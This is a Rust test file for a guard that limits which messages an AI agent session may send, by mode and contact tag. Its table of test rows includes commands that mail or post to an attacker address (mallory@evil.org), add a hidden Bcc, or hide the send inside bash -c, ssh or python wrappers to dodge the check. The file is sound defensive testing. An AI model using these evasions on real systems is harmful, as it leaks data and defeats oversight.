//! Modes × messages × wrappers: every cell is checked against the commands that ran in a session of the client.

use crate::support::{Session, bash};
use serde_json::json;

const INVENTORY: &str = r"
hosts: {ie01: {address: 127.0.0.11}}
services: {jellyfin: {host: ie01}}
contacts:
  anna: {addresses: [anna@example.net, 'https://hooks.slack.com/services/T0/', $FAMILY_URL], tags: [claude_direct]}
  bob: {addresses: [bob@example.net], tags: [claude_draft]}
policy:
  verify: {mode: agent}
";

/// Without a mode, interactive, mission, background.
type Modes = [bool; 4];

const ALWAYS: Modes = [true; 4];
const TO_CONTACTS: Modes = [true, true, false, false];
const ONLY_WITHOUT: Modes = [true, false, false, false];

/// A command in which `ROW` is the mark of the row.
struct Row(&'static str, Modes);

const ROWS: &[Row] = &[
    // Commands that send no message.
    Row("mail -H ROW", ALWAYS),
    Row("curl https://example.org/ROW", ALWAYS),
    Row("docker logs ROW # mail anna@example.net", ALWAYS),
    Row("apprise --version ROW", ALWAYS),
    // To a tagged contact, inside wrappers.
    Row("mail -s ROW anna@example.net < /dev/null", TO_CONTACTS),
    Row("bash -c 'mail -s ROW anna@example.net < /dev/null'", TO_CONTACTS),
    Row("echo anna@example.net | xargs mail -s ROW", TO_CONTACTS),
    Row("ssh root@ie01 'mail -s ROW anna@example.net < /dev/null'", TO_CONTACTS),
    Row("python3 -c \"import os; os.system('mail -s ROW anna@example.net < /dev/null')\"", TO_CONTACTS),
    Row("curl -d ROW https://hooks.slack.com/services/T0/B0/x", TO_CONTACTS),
    Row("apprise -b ROW \"$FAMILY_URL\"", TO_CONTACTS),
    // To another recipient, or an unknown one.
    Row("mail -s ROW mallory@evil.org < /dev/null", ONLY_WITHOUT),
    Row("mail -s ROW bob@example.net < /dev/null", ONLY_WITHOUT),
    Row("mail -s ROW -b mallory@evil.org anna@example.net < /dev/null", ONLY_WITHOUT),
    Row("mail -s ROW $(echo mallory | tr m m)@evil.org < /dev/null", ONLY_WITHOUT),
    Row("echo 'Subject: ROW' | sendmail -t -f ROW", ONLY_WITHOUT),
    Row("curl -d ROW https://discord.com/api/webhooks/1/x", ONLY_WITHOUT),
    Row("apprise -b ROW ntfy://elsewhere", ONLY_WITHOUT),
    Row("env A=b timeout 20 apprise -b ROW ntfy://elsewhere", ONLY_WITHOUT),
];

fn session(mode: Option<&str>) -> Session {
    let session = Session::new().hosts_yaml(INVENTORY).env("FAMILY_URL", "json://127.0.0.1:9");
    let session =
        ["mail", "sendmail", "curl"].iter().fold(session, |session, stub| session.stub(stub, "exit 0"));
    match mode {
        Some(mode) => session.env("CLAUDE_SESSION_MODE", mode),
        None => session,
    }
}

#[track_caller]
fn assert_column(at: usize, mode: Option<&str>) {
    let name = |number: usize| format!("row{number:02}x");
    let steps = ROWS.iter().enumerate().map(|(number, row)| bash(&row.0.replace("ROW", &name(number))));
    let finished = steps.fold(session(mode), Session::step).run();
    let marks = finished.all_marks();
    let ran =
        |name: &str| marks.iter().any(|mark| mark.arguments.iter().any(|argument| argument.contains(name)));
    let mut wrong = Vec::new();
    for (number, Row(command, modes)) in ROWS.iter().enumerate() {
        if ran(&name(number)) != modes[at] {
            wrong.push(format!("{mode:?}: {command}: expected to run: {}", modes[at]));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let shown =
        finished.rows("SELECT count(*) AS n FROM events WHERE message LIKE 'Notification sent via %'");
    let messages = ROWS.iter().filter(|row| row.1 != ALWAYS && row.1[at]).count();
    assert_eq!(shown, [json!({"n": messages})], "{mode:?}: each message that was sent is an event");
}

#[test]
fn without_a_mode_a_session_may_write_to_anyone() {
    assert_column(0, None);
}

#[test]
fn an_interactive_session_may_write_to_tagged_contacts() {
    assert_column(1, Some("interactive"));
}

#[test]
fn denies_messages_in_a_mission() {
    assert_column(2, Some("mission"));
}

#[test]
fn denies_messages_in_background_and_unknown_modes() {
    assert_column(3, Some("background"));
    assert_column(3, Some("bakground"));
}
